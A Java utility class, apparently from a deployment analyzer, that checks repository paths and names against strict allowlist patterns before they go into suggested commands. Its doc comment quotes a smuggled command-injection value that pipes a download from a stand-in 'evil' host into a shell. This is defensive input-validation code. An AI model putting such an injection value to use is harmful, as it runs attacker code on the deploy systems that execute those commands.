package dev.autodeploy.analyzer.engine;

import java.util.regex.Pattern;

/**
 * Checks values taken from a repository before they go into a suggested command. Commands the
 * engine proposes may be run later by a deploy target, so a manifest field such as
 * {@code "main": "x; curl evil | sh"} must never become part of one.
 */
public final class SafeText {

    private static final Pattern PATH = Pattern.compile("[A-Za-z0-9._@/+-]{1,200}");
    private static final Pattern NAME = Pattern.compile("[A-Za-z0-9._-]{1,100}");

    private SafeText() {
    }

    /** A relative path of plain characters, no parent references, no leading dash or slash. */
    public static boolean isPath(String value) {
        return value != null && PATH.matcher(value).matches() && !value.startsWith("-") && !value.startsWith("/")
                && !value.contains("..");
    }

    /** A plain identifier such as a module, package or binary name. */
    public static boolean isName(String value) {
        return value != null && NAME.matcher(value).matches() && !value.startsWith("-");
    }
}
